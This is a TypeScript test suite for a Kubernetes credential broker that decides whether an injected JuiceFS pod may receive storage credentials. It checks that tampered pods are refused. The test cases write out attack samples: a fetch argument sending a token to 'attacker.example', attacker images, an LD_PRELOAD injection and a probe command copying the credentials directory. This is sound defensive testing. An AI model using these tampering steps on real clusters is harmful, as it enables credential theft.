// The credential broker's decision (ADR 0010) as a pure function: a TokenReview result, the token's pod, the PVC
// asked for and the cluster's objects in; allow or a typed refusal out. The pod is the one the injector makes from
// the golden case test/testdata/broker.yaml, then changed the way a namespace user could.
import type { KubernetesObject, V1Container, V1PersistentVolume, V1Pod } from '@kubernetes/client-node';
import t from 'tap';
import { configFromObjects } from '../../src/config/options.js';
import { decideCredentials, tokenPod } from '../../src/controller/broker-decision.js';
import { ephemeralContainersDenial } from '../../src/inject/ephemeral.js';
import { credentialValues, isCredentialName } from '../../src/mount/credentials.js';
import { ObjectView } from '../../src/resolve/object-view.js';
import { credentialsModeOf, credentialsOfPvc } from '../../src/resolve/resolve.js';
import { GOLDEN_BROKER } from '../golden/golden.js';
import { BROKER_POD_UID, brokerObjects, brokerReview, injectedBrokerPod } from './broker-fixtures.js';

const AUD = 'juicefs.com/credentials';
const UID = BROKER_POD_UID;
const objects = brokerObjects;
const review = brokerReview;

const options = (objs: KubernetesObject[]) => ({ config: configFromObjects(objs), broker: GOLDEN_BROKER });

/** The pod as the API server keeps it after the webhook: injected, with a uid and the default ServiceAccount. */
const injectedPod = (objs: KubernetesObject[]): V1Pod => injectedBrokerPod(objs, options(objs));

function decide(pod: V1Pod | undefined, objs = objects(), r = review(), pvcName = 'data') {
  return decideCredentials({ review: r, pod, pvcName, view: new ObjectView(objs), options: options(objs) });
}

const code = (d: ReturnType<typeof decide>) => (d.allow ? 'allow' : d.code);
const container = (pod: V1Pod, name: string): V1Container =>
  [...(pod.spec!.initContainers ?? []), ...pod.spec!.containers].find((c) => c.name === name)!;

t.test('the injected pod, with a token bound to it, gets its volume only', async (t) => {
  const objs = objects();
  const d = decide(injectedPod(objs), objs);
  t.equal(code(d), 'allow');
  t.same(d.allow && d.secret, { name: 'juicefs-secret', namespace: 'kube-system' }, "the volume's own Secret");
  // As the API server returns it: defaults filled in that the injector does not write.
  const defaulted = injectedPod(objs);
  for (const c of [...defaulted.spec!.initContainers!, ...defaulted.spec!.containers]) {
    c.terminationMessagePath = '/dev/termination-log';
    c.imagePullPolicy = 'IfNotPresent';
    for (const e of c.env ?? []) if (e.valueFrom?.fieldRef) e.valueFrom.fieldRef.apiVersion = 'v1';
  }
  // The ServiceAccount admission plugin mounts the pod's API token into every container, the injector's too.
  defaulted.spec!.volumes!.push({
    name: 'kube-api-access-abcde',
    projected: { defaultMode: 420, sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] },
  });
  for (const c of [...defaulted.spec!.initContainers!, ...defaulted.spec!.containers])
    c.volumeMounts = [
      ...(c.volumeMounts ?? []),
      { name: 'kube-api-access-abcde', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true },
    ];
  t.equal(code(decide(defaulted, objs)), 'allow', "the API server's defaults change nothing");
  // The user may tune resources after the fact through annotations; resources are not compared.
  container(defaulted, 'jfs-mount').resources = { limits: { memory: '1Gi' } };
  t.equal(code(decide(defaulted, objs)), 'allow', 'resources are not compared');
});

t.test('tokens that are not an injected pod’s', async (t) => {
  const pod = injectedPod(objects());
  t.equal(code(decide(pod, objects(), review({ authenticated: false, error: 'expired' }))), 'unauthenticated');
  t.equal(code(decide(pod, objects(), review({ audiences: ['https://kubernetes.default.svc'] }))), 'wrong-audience');
  t.equal(
    code(decide(pod, objects(), review({ user: { username: 'system:serviceaccount:team-a:default', extra: {} } }))),
    'not-pod-bound',
    'a ServiceAccount token bound to no pod',
  );
  t.equal(
    code(decide(pod, objects(), review({ user: { username: 'alice', extra: review().user!.extra } }))),
    'not-pod-bound',
    'not a ServiceAccount',
  );
  t.equal(code(decide(undefined)), 'pod-not-found', 'the pod is gone');
  const other = structuredClone(pod);
  other.metadata!.uid = 'another';
  t.equal(code(decide(other)), 'pod-not-found', 'a pod of that name, but not the one the token was bound to');
  const sa = structuredClone(pod);
  sa.spec!.serviceAccountName = 'builder';
  t.equal(code(decide(sa)), 'pod-not-found', 'another ServiceAccount');
  const elsewhere = structuredClone(pod);
  elsewhere.metadata!.namespace = 'team-b';
  t.equal(code(decide(elsewhere)), 'pod-not-found', 'a pod of another namespace');
  const plain = structuredClone(pod);
  delete plain.metadata!.labels;
  t.equal(code(decide(plain)), 'not-injected');
  const shared = structuredClone(pod);
  shared.spec!.shareProcessNamespace = true;
  t.equal(code(decide(shared)), 'shared-process');
});

t.test('a PVC the pod does not use, or not bound to its PV', async (t) => {
  const objs = objects();
  t.equal(code(decide(injectedPod(objs), objs, review(), 'other')), 'not-the-pods-volume');
  const unbound = objects();
  const pv = unbound.find((o) => o.kind === 'PersistentVolume') as V1PersistentVolume;
  pv.spec!.claimRef = { namespace: 'team-b', name: 'data' };
  t.equal(code(decide(injectedPod(objs), unbound)), 'not-derivable', 'the PV is now bound to another claim');
  const copy = objects();
  const pv2 = copy.find((o) => o.kind === 'PersistentVolume') as V1PersistentVolume;
  pv2.spec!.csi!.volumeAttributes!['juicefs/credentials'] = 'copy';
  t.equal(code(decide(injectedPod(objs), copy)), 'foreign-container', 'the volume went back to copy mode');
});

t.test('any container that can read the token or the credentials must be the injector’s', async (t) => {
  const objs = objects();
  const variants: [string, (pod: V1Pod) => void][] = [
    [
      'an app container mounting the credentials emptyDir',
      (p) => p.spec!.containers[0].volumeMounts!.push({ name: 'jfs-credentials-0', mountPath: '/steal' }),
    ],
    [
      'an app container mounting the token',
      (p) => p.spec!.containers[0].volumeMounts!.push({ name: 'jfs-credentials-token', mountPath: '/t' }),
    ],
    ['the mount image replaced', (p) => (container(p, 'jfs-mount').image = 'attacker/dump-env')],
    ['the fetch image replaced', (p) => (container(p, 'jfs-credentials').image = 'attacker/fetch')],
    [
      'the fetch step sending the token elsewhere',
      (p) => (container(p, 'jfs-credentials').args![2] = '--url=https://attacker.example'),
    ],
    [
      'a loader variable on the mount container',
      (p) => container(p, 'jfs-mount').env!.push({ name: 'LD_PRELOAD', value: '/var/lib/juicefs/volume/x.so' }),
    ],
    [
      'a probe that copies the credentials',
      (p) =>
        (container(p, 'jfs-mount').startupProbe!.exec!.command = [
          'sh',
          '-c',
          'cp -r $JFS_CREDENTIALS_DIR /var/lib/juicefs/volume/',
        ]),
    ],
    ['envFrom on the format step', (p) => (container(p, 'jfs-format').envFrom = [{ secretRef: { name: 'mine' } }])],
    [
      'an ephemeral container mounting the token',
      (p) =>
        (p.spec!.ephemeralContainers = [
          { name: 'debug', image: 'busybox', volumeMounts: [{ name: 'jfs-credentials-token', mountPath: '/t' }] },
        ]),
    ],
    [
      'the credentials emptyDir on a node disk',
      (p) => (p.spec!.volumes!.find((v) => v.name === 'jfs-credentials-0')!.emptyDir = {}),
    ],
  ];
  for (const [what, change] of variants) {
    const pod = injectedPod(objs);
    change(pod);
    t.equal(code(decide(pod, objs)), 'foreign-container', what);
  }
});

t.test('a pod written by hand, with the done label and a token of the broker’s audience of its own', async (t) => {
  const objs = objects();
  const pod: V1Pod = {
    metadata: { name: 'app', namespace: 'team-a', uid: UID, labels: { 'done.sidecar.juicefs.com/inject': 'true' } },
    spec: {
      serviceAccountName: 'default',
      containers: [
        {
          name: 'jfs-credentials',
          image: 'attacker/fetch',
          args: ['credentials', 'fetch', '--pvc=data', '--volume=data'],
          volumeMounts: [{ name: 'tok', mountPath: '/t' }],
        },
      ],
      volumes: [{ name: 'tok', projected: { sources: [{ serviceAccountToken: { audience: AUD, path: 'token' } }] } }],
    },
  };
  t.equal(code(decide(pod, objs)), 'foreign-container');
  delete pod.spec!.containers[0].args;
  t.equal(code(decide(pod, objs)), 'not-injected', 'without the step’s args it is no injected pod at all');
});

t.test('tokenPod reads the bound pod from the extra', async (t) => {
  t.same(tokenPod(review()), { namespace: 'team-a', serviceAccount: 'default', name: 'app', uid: UID });
});

t.test(
  'an ephemeral container may not mount the token or the credentials emptyDir, nor target the fetch step',
  async (t) => {
    const pod = injectedPod(objects());
    for (const [volume, target] of [
      ['jfs-credentials-token', undefined],
      ['jfs-credentials-0', undefined],
      [undefined, 'jfs-credentials'],
    ] as const) {
      const after = structuredClone(pod);
      after.spec!.ephemeralContainers = [
        {
          name: 'debug',
          image: 'busybox',
          ...(volume ? { volumeMounts: [{ name: volume, mountPath: '/x' }] } : {}),
          ...(target ? { targetContainerName: target } : {}),
        },
      ];
      t.equal(ephemeralContainersDenial(after, pod)?.code, 'ephemeral-container', volume ?? `target ${target}`);
    }
  },
);

t.test("the broker's answer and what the fetch step accepts", async (t) => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  t.same(
    credentialValues({
      metaurl: b64('redis://:p@r/1'),
      'secret-key': b64('sk'),
      envs: b64('{TZ: UTC, ACCESS_KEY: from-envs}'),
      'access-key': b64('ak'),
    }),
    { TZ: 'UTC', ACCESS_KEY: 'ak', JFS_METAURL: 'redis://:p@r/1', SECRET_KEY: 'sk' },
    "the Secret's own keys win over an envs entry of the same variable",
  );
  for (const name of ['JFS_METAURL', 'ACCESS_KEY', 'TZ', 'META_PASSWORD']) t.ok(isCredentialName(name), name);
  for (const name of ['LD_PRELOAD', 'PATH', 'JFS_MOUNT_POINT', 'JUICEFS_POD_UID', 'NODE_OPTIONS', 'A-B', '../x'])
    t.notOk(isCredentialName(name), `${name} is never written`);
});

t.test("a volume's mode: its PV or StorageClass, else the flag's default; no copy for broker", async (t) => {
  const objs = objects();
  const view = new ObjectView(objs);
  const pvc = view.getPvc('team-a', 'data')!;
  const base = { getPv: (n: string) => view.getPv(n), getStorageClass: (n: string) => view.getStorageClass(n) };
  t.equal(credentialsOfPvc(pvc, base), 'broker', 'the PV says broker');
  const pv = objs.find((o) => o.kind === 'PersistentVolume') as V1PersistentVolume;
  delete pv.spec!.csi!.volumeAttributes!['juicefs/credentials'];
  t.equal(credentialsOfPvc(pvc, base), 'copy', 'nothing said: copy');
  t.equal(credentialsOfPvc(pvc, { ...base, defaultCredentials: 'broker' }), 'broker', '--credentials=broker');
  pv.spec!.csi!.volumeAttributes!['juicefs/credentials'] = 'vault';
  t.equal(credentialsOfPvc(pvc, base), 'broker', 'an invalid value makes no copy (its pods are denied anyway)');
  t.throws(() => credentialsModeOf({ 'juicefs/credentials': 'vault' }, {}, 'PV x'), /not "copy" or "broker"/);
});
